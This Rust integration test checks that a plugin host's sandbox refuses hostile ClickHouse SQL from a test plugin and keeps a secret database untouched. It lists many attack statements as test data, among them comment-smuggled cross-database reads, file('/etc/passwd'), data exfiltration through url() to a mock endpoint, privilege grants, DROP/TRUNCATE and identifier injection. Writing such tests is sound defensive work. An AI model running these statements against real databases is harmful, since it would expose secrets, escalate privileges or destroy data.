//! Issue 9, ClickHouse: a hostile plugin (testkit, mode `clickhouse-sql`) sends generated
//! hostile statements through the host's real ClickHouse capability, connected as the stack's
//! host user `fanout`, against the real ClickHouse. Every one is refused with not-granted, a
//! secret table in another database is never read nor changed, nothing leaves through
//! `url(...)`, and the other plugins of the same host keep delivering.

use std::time::Duration;

use fanout::plugin::WriteOutcome;
use fanout_tests::*;
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(60);
/// The database the stack's host user may use besides `engagement` (scripts/stack).
const SANDBOX_DB: &str = "fanout_sandbox";
const SECRET: &str = "the-secret-value-9";

/// A database the host user may not use, with one secret row; dropped on drop.
struct SecretDb<'a> {
    stack: &'a Stack,
    name: String,
}

impl<'a> SecretDb<'a> {
    async fn create(stack: &'a Stack) -> SecretDb<'a> {
        let name = unique("secret");
        clickhouse_query(stack, &format!("CREATE DATABASE {name}")).await;
        clickhouse_query(
            stack,
            &format!("CREATE TABLE {name}.t (s String) ENGINE = Memory"),
        )
        .await;
        clickhouse_query(stack, &format!("INSERT INTO {name}.t VALUES ('{SECRET}')")).await;
        SecretDb { stack, name }
    }

    /// The secret table holds its one row, unchanged.
    async fn assert_untouched(&self) {
        let rows = clickhouse_query(self.stack, &format!("SELECT s FROM {}.t", self.name)).await;
        assert_eq!(rows.trim(), SECRET, "the secret table changed");
    }
}

impl Drop for SecretDb<'_> {
    fn drop(&mut self) {
        let (stack, name) = (self.stack.clone(), self.name.clone());
        let _ = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .ok()?;
            rt.block_on(clickhouse_query_as(
                &stack,
                &stack.clickhouse_admin,
                &format!("DROP DATABASE IF EXISTS {name}"),
            ))
            .ok()
        })
        .join();
    }
}

/// Hostile statements: every way of naming another table, times every place a table can
/// hide, plus the statement kinds of issue 9. `ok` is a granted table, `mock` a URL prefix of
/// the API mock that must receive nothing.
fn hostile_statements(secret_db: &str, ok: &str, mock: &str) -> Vec<String> {
    let targets = [
        "system.tables".to_string(),
        "system.processes".to_string(),
        "`system`.`one`".to_string(),
        format!("{secret_db}.t"),
        format!("`{secret_db}`.`t`"),
        format!("\"{secret_db}\".\"t\""),
        "t".to_string(),
        "one".to_string(),
    ];
    let places = [
        "SELECT * FROM {x}",
        "SELECT * FROM {ok} JOIN {x} AS x ON 1 = 1",
        "SELECT * FROM {ok} WHERE event_id IN (SELECT * FROM {x})",
        "SELECT * FROM {ok} WHERE event_id IN {x}",
        "SELECT (SELECT count() FROM {x})",
        "SELECT * FROM (SELECT * FROM {x})",
        "SELECT toString(event_id) FROM {ok} UNION ALL SELECT * FROM {x}",
        "SELECT * FROM remote('127.0.0.1:59000', {x})",
        "SELECT * FROM {ok} -- '\n, {x} -- '",
        "SELECT * FROM {ok} /* ' */ , {x}",
        "SELECT * FROM {ok} # '\n, {x}",
        "INSERT INTO {ok} SELECT * FROM {x}",
        "CREATE TABLE {ok}_copy ENGINE = Memory AS SELECT * FROM {x}",
    ];
    let mut out: Vec<String> = targets
        .iter()
        .flat_map(|x| {
            places
                .iter()
                .map(move |p| p.replace("{x}", x).replace("{ok}", ok))
        })
        .collect();
    out.extend(
        [
            "SELECT * FROM -- '\nsystem.tables -- '",
            "SELECT * FROM system/**/.tables",
            "SHOW TABLES FROM system",
            "SHOW TABLES FROM {secret}",
            "SHOW DATABASES",
            "USE {secret}",
            "DESCRIBE TABLE {secret}.t",
            "SELECT * FROM url('{mock}leak', CSV, 's String')",
            "INSERT INTO FUNCTION url('{mock}events', 'JSONEachRow', 's String') SELECT s FROM {secret}.t",
            "INSERT INTO FUNCTION url('{mock}events', 'JSONEachRow', 's String') VALUES ('x')",
            "SELECT * FROM file('/etc/passwd', CSV, 's String')",
            "SELECT * FROM merge('{secret}', '.*')",
            "SELECT * FROM numbers(3)",
            "SELECT * FROM postgresql('127.0.0.1:55432', 'engagement', 'content', 'postgres', '')",
            "SELECT joinGet('{secret}.t', 's', 1)",
            "SELECT dictGetString('d', 'a', toUInt64(1))",
            "SELECT currentUser()",
            "SELECT 1; SELECT * FROM {secret}.t",
            "SELECT 1 SETTINGS readonly = 0",
            "SET readonly = 0",
            "GRANT ALL ON *.* TO fanout",
            "KILL QUERY WHERE 0",
            "SYSTEM DROP MARK CACHE",
            "DROP DATABASE {secret}",
            "DROP TABLE {ok}",
            "TRUNCATE TABLE {ok}",
            "ALTER TABLE {ok} DELETE WHERE 1",
            "RENAME TABLE {ok} TO {secret}.moved",
            "CREATE DATABASE {secret}_2",
            "CREATE TABLE {secret}.planted (s String) ENGINE = Memory",
            "CREATE TABLE {ok}_merge (s String) ENGINE = Merge({secret}, '.*')",
            "CREATE TABLE {ok}_dist (s String) ENGINE = Distributed(c, {secret}, t)",
            "CREATE TABLE {ok}_url (s String) ENGINE = URL('{mock}events', JSONEachRow)",
            "CREATE VIEW {ok}_view AS SELECT * FROM {secret}.t",
        ]
        .iter()
        .map(|s| {
            s.replace("{secret}", secret_db)
                .replace("{ok}", ok)
                .replace("{mock}", mock)
        }),
    );
    out
}

/// A testkit plugin running `statements` and `inserts` through the capability, granted
/// `databases` and the Redis key `key` for its reports.
fn hostile_toml(
    name: &str,
    key: &str,
    databases: &[&str],
    statements: &[String],
    inserts: &[(&str, &str)],
) -> String {
    // JSON strings are valid TOML basic strings (same escapes).
    let json = |v: &str| serde_json::to_string(v).expect("json string");
    let statements: Vec<String> = statements.iter().map(|s| json(s)).collect();
    let inserts: Vec<String> = inserts
        .iter()
        .map(|(d, t)| format!("[{}, {}]", json(d), json(t)))
        .collect();
    let dbs: Vec<String> = databases.iter().map(|d| json(d)).collect();
    format!(
        r#"
[[plugins]]
name = "{name}"
path = "{path}"
failure_policy = "best-effort"
max_retries = 0
[plugins.grants]
redis = {{ key_prefix = "{key}" }}
clickhouse = {{ databases = [{dbs}] }}
[plugins.config]
key = "{key}"
mode = "clickhouse-sql"
statements = [{statements}]
inserts = [{inserts}]
"#,
        path = plugin_wasm("testkit").display(),
        dbs = dbs.join(", "),
        statements = statements.join(",\n"),
        inserts = inserts.join(", "),
    )
}

/// Splits the plugin's reports into (refused, allowed) and checks that no refused one
/// returned data and that the secret shows nowhere.
fn split_reports(reports: &[Value]) -> (Vec<&Value>, Vec<&Value>) {
    for r in reports {
        assert!(
            !r.to_string().contains(SECRET),
            "the secret leaked into a report: {r}"
        );
    }
    reports.iter().partition(|r| r["error"].is_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_statements_are_refused_and_the_secret_is_never_read() {
    let Some(stack) = Stack::get() else { return };
    let secret = SecretDb::create(&stack).await;
    clickhouse_query(
        &stack,
        &format!("CREATE DATABASE IF NOT EXISTS {SANDBOX_DB}"),
    )
    .await;
    let table = format!("{SANDBOX_DB}.{}", unique("granted"));
    clickhouse_query(
        &stack,
        &format!("CREATE TABLE {table} (event_id Int64) ENGINE = Memory"),
    )
    .await;
    let ns = unique("leak");
    let mock = format!("{}/ns/{ns}/", stack.external_api_url.trim_end_matches('/'));
    let hostile = hostile_statements(&secret.name, &table, &mock);
    assert!(hostile.len() > 100, "{} statements", hostile.len());
    let control = format!("SELECT count() FROM {table}");
    let mut statements = hostile.clone();
    statements.push(control.clone());
    let (_, granted_table) = table.split_once('.').expect("db.table");
    let secret_db = secret.name.as_str();
    let inserts = [
        (secret_db, "t"),
        ("system", "one"),
        (SANDBOX_DB, "t` FORMAT CSV"),
        ("fanout_sandbox`.`x", "t"),
        (SANDBOX_DB, granted_table),
    ];
    let key = unique("hostile");
    let toml = hostile_toml("hostile", &key, &[SANDBOX_DB], &statements, &inserts);
    // Connected as the stack's host user, as in production.
    let plugin = LoadedPlugin::load_as(&stack, &toml, &stack.clickhouse_host).await;
    let out = plugin
        .write("t/0:0-0", &[wit_event(1, Some(1), now_micros())])
        .await;
    assert!(matches!(out, WriteOutcome::Accepted), "{out:?}");

    let r = redis(&stack).await;
    let reports = recorded(&r, &key).await;
    assert_eq!(
        reports.len(),
        statements.len() + inserts.len(),
        "{reports:?}"
    );
    let (refused, allowed) = split_reports(&reports);
    for rep in &refused {
        let error = rep["error"].as_str().unwrap_or_default();
        assert!(
            error.contains("::NotGranted("),
            "refused by ClickHouse, not by the host: {rep}"
        );
        assert!(rep["ok"].is_null(), "{rep}");
    }
    let allowed_targets: Vec<String> = allowed
        .iter()
        .map(|r| r.get("sql").unwrap_or(&r["insert"]).to_string())
        .collect();
    assert_eq!(
        allowed_targets,
        vec![
            serde_json::to_string(&control).expect("json"),
            serde_json::json!([SANDBOX_DB, granted_table]).to_string()
        ],
        "only the control statement and the granted insert pass"
    );
    assert_eq!(allowed[0]["ok"], "0\n", "the control SELECT ran");

    // Nothing happened behind the refusals.
    secret.assert_untouched().await;
    let dbs = clickhouse_query(&stack, "SHOW DATABASES").await;
    assert!(
        !dbs.lines().any(|d| d == format!("{}_2", secret.name)),
        "{dbs}"
    );
    let tables = clickhouse_query(&stack, &format!("SHOW TABLES FROM {}", secret.name)).await;
    assert_eq!(tables.trim(), "t", "nothing planted in the secret database");
    let sandbox_tables = clickhouse_query(&stack, &format!("SHOW TABLES FROM {SANDBOX_DB}")).await;
    assert!(
        !sandbox_tables
            .lines()
            .any(|t| t.starts_with(granted_table) && t != granted_table),
        "no copy/merge/url/view table was created: {sandbox_tables}"
    );
    assert_eq!(
        clickhouse_query(&stack, &format!("SELECT count() FROM {table}"))
            .await
            .trim(),
        "1",
        "the granted insert landed once, the table was not dropped"
    );
    assert!(
        mock_received(&stack, &ns).await.is_empty(),
        "nothing left through url()"
    );

    // The second fence: the host user itself cannot read the secret database, whatever the
    // host's check would let through (18.16 still lets it read `system`: the check covers it).
    let direct = clickhouse_query_as(
        &stack,
        &stack.clickhouse_host,
        &format!("SELECT s FROM {}.t", secret.name),
    )
    .await;
    assert!(
        direct.as_ref().is_err_and(|e| e.contains("Access denied")),
        "{direct:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_plugin_does_not_stop_the_others() {
    let Some(stack) = Stack::get() else { return };
    let secret = SecretDb::create(&stack).await;
    let events = unique("events");
    create_topic(&stack, &events, 1).await;
    let good = unique("good");
    let key = unique("hostile");
    let sink_table = unique("events");
    let hostile: Vec<String> = [
        "SELECT s FROM {secret}.t",
        "SELECT * FROM system.tables",
        "SELECT * FROM remote('127.0.0.1:59000', {secret}.t)",
        "SELECT * FROM {ok}.{tbl} -- '\n, {secret}.t -- '",
        "DROP TABLE {ok}.{tbl}",
        "KILL QUERY WHERE 0",
    ]
    .iter()
    .map(|s| {
        s.replace("{secret}", &secret.name)
            .replace("{ok}", SANDBOX_DB)
            .replace("{tbl}", &sink_table)
    })
    .collect();
    // No content topic (one topic less for the broker to create): events keep NULL content.
    let mut cfg = ConfigBuilder::new(&stack, &events, "", "")
        .testkit("good", "record", &good, "fail-fast", 3)
        .plugin_raw(&hostile_toml(
            "hostile",
            &key,
            &[SANDBOX_DB],
            &hostile,
            &[(&secret.name, "t")],
        ))
        .plugin_raw(&format!(
            r#"
[[plugins]]
name = "clickhouse"
path = "{}"
failure_policy = "fail-fast"
[plugins.grants]
clickhouse = {{ databases = ["{SANDBOX_DB}"] }}
[plugins.config]
database = "{SANDBOX_DB}"
table = "{sink_table}"
"#,
            plugin_wasm("clickhouse").display()
        ));
    // The host process connects as the stack's host user, as config/local.toml does.
    cfg.clickhouse_user = stack.clickhouse_host.clone();
    let mut host = HostProc::start("sandbox-ch", &cfg.render(), &cfg.metrics_addr);
    produce_events(&stack, &events, 1..=5).await;
    let r = redis(&stack).await;
    eventually(
        WAIT,
        "the recording plugin receives every event",
        || async { (recorded(&r, &good).await.len() >= 5).then_some(()) },
    )
    .await;
    let rows = eventually(WAIT, "the clickhouse plugin stores every event", || async {
        let n = clickhouse_query_as(
            &stack,
            &stack.clickhouse_admin,
            &format!("SELECT count() FROM {SANDBOX_DB}.{sink_table}"),
        )
        .await
        .ok()?;
        (n.trim() == "5").then_some(n)
    })
    .await;
    assert_eq!(rows.trim(), "5");
    let reports = eventually(WAIT, "the hostile plugin's reports", || async {
        let v = recorded(&r, &key).await;
        // One report per statement and one for the insert, per batch.
        (v.len() > hostile.len()).then_some(v)
    })
    .await;
    let (refused, allowed) = split_reports(&reports);
    assert!(allowed.is_empty(), "{allowed:?}");
    assert!(refused.iter().all(|r| r["error"]
        .as_str()
        .is_some_and(|e| e.contains("::NotGranted("))));
    secret.assert_untouched().await;
    assert!(host.proc.is_running(), "{}", host.proc.log_text());
    // Offsets are committed (per plugin lane, or for the whole host: any commit sample).
    eventually(WAIT, "a commit", || async {
        let m = host.metrics().await;
        m.lines()
            .filter(|l| l.starts_with("fanout_commits_total"))
            .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
            .any(|v| v >= 1.0)
            .then_some(())
    })
    .await;
    let _ = clickhouse_query_as(
        &stack,
        &stack.clickhouse_admin,
        &format!("DROP TABLE IF EXISTS {SANDBOX_DB}.{sink_table}"),
    )
    .await;
}
